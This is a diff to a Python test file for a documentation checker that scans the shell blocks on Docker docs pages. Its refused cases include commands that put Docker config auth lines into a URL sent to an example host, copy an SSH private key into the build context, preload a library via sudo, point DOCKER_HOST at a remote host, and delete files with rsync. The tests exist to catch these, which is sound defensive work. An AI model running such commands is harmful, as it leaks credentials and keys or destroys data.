@@ -27,8 +27,10 @@ def _docs() -> dict[str, str]:
     return {p.relative_to(ROOT / "docs").as_posix(): p.read_text(encoding="utf-8") for p in pages}
 
 
-def problems_of(block: str) -> list[str]:
-    sources = dict(_docs())
+def problems_of(block: str, alone: bool = False) -> list[str]:
+    """The test page's problems, built with the site's pages (a reader's shell holds every page's
+    functions and variables), or `alone`."""
+    sources = {} if alone else dict(_docs())
     sources["zz-test.md"] = f"{FRONT}```bash\n{block}\n```\n"
     site = build_site(sources, catalog.load())
     return [str(p) for p in site.problems if p.path == "docs/zz-test.md"]
@@ -131,6 +133,50 @@ REFUSED = {
         1,
         "does not fetch from https://get.docker.com",
     ),
+    # The fourteenth attacker's: what a value, a copy or another page's block brings in.
+    "a loop over a file's words": (
+        "cat > stack.txt <<'EOF'\n--volumes\nEOF\n"
+        'for port in "$(cat stack.txt)"; do docker compose down "$port"; done',
+        3,
+        "the loop's word `$(cat stack.txt)` is made by the shell",
+    ),
+    "cd to the home folder": ("cd\nmkdir -p bin", 0, "`cd` with 0 words"),
+    "rsync emptying the folder": ("mkdir -p template\nrsync -a --delete template/ .", 1, "`rsync --delete`"),
+    "a folder's contents from a container": (
+        "docker container cp web:/home/app/. .",
+        0,
+        "copies a folder's contents (`/.`)",
+    ),
+    "a name env sets for docker": (
+        "env DOCKER_HOST=tcp://builder.example.net:2375 docker container ls",
+        0,
+        "assigns `DOCKER_HOST`",
+    ),
+    "a name sudo env sets": ("sudo env LD_PRELOAD=./lib.so docker container ls", 0, "assigns `LD_PRELOAD`"),
+    "a value watch runs as code": (
+        "name='web'\nwatch -n 60 docker container exec web echo \"$name\"",
+        1,
+        "filled in before watch joins its words",
+    ),
+    "a value a trap runs as code": (
+        'name=\'web\'\ntrap "docker container stop \\"$name\\"" EXIT',
+        1,
+        "outside single quotes",
+    ),
+    "a pipe into a quoted shell": ('echo docker ps | "sh"', 0, "a pipe into `sh`"),
+    "a URL the shell fills in": (
+        'curl -fsSL "https://status.example.net/$(grep auth ~/.docker/config.json | head -n 1)" -o status.txt',
+        0,
+        "a word the shell fills in",
+    ),
+    "a key copied into the build context": ("cp ~/.ssh/id_ed25519 deploy_key", 0, "copies `~/.ssh/id_ed25519`"),
+    "a key written into the build context": (
+        "cat ~/.ssh/id_ed25519 > deploy_key",
+        0,
+        "writes a file in the current folder on a line that reads `~/.ssh/id_ed25519`",
+    ),
+    "a function of another page": ('dps() {\n  docker image prune --force "$@"\n}', 0, "defined on docs/tips.md"),
+    "a name another page's trap reads": ('name=db\ndocker container logs "$name"', 0, "a trap or function"),
 }
 
 
@@ -149,7 +195,7 @@ ALLOWED = {
     "a function that lists ids": (
         'dlast() {\n  docker container ls --latest --quiet\n}\ndocker container stop "$(dlast)"'
     ),
-    "a variable's value as an operand": 'name="test-$RANDOM"\ndocker container rm "$name"',
+    "a variable's value as an operand": 'port="test-$RANDOM"\ndocker container rm "$port"',
     "Docker's own variables": "DOCKER_BUILDKIT=1 docker build -t app .",
     "a file in the current folder": "docker image save nginx | gzip > nginx.tar.gz",
     "a `>` inside quotes": "echo 'a > b' > notes.txt",
@@ -159,12 +205,17 @@ ALLOWED = {
     "a secret into docker": 'echo "$name" | docker login -u me --password-stdin',
     "a stream into a filter": "docker image save nginx | gzip > nginx.tar.gz",
     "a folder docker reads": "sudo mkdir -p /etc/docker/certs.d/<registry>",
+    "a loop over docker's ids": 'for port in $(docker container ls -q); do docker container inspect "$port"; done',
+    "a trap's string in single quotes": "trap 'docker container rm -f \"$name\"' EXIT",
+    "a copy of the folder's own file": "cp ./compose.yaml compose.backup.yaml",
+    "watch of a written command": "watch -n 5 docker container ls",
 }
 
 
 @pytest.mark.parametrize("name", list(ALLOWED))
 def test_what_the_pages_write_builds(name):
-    assert problems_of(ALLOWED[name]) == []
+    # Alone, as a page of its own would: tips.md defines the same functions, which two pages may not.
+    assert problems_of(ALLOWED[name], alone="()" in ALLOWED[name]) == []
 
 
 def test_a_call_that_deletes_and_docker_s_own_image_that_deletes_get_the_banner():
